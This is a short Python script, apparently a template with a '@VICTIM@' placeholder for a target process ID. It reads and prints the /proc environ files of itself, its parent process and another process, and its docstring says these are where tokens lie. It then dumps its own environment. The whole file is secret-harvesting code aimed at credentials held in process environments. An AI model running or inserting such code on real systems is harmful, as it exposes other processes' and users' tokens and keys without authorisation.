"""Reads the environment of itself, its parent and another process, where tokens lie."""
import os

for place in ("self", os.getppid(), "@VICTIM@"):
    try:
        print(open(f"/proc/{place}/environ").read())
    except OSError:
        pass
print(os.environ)
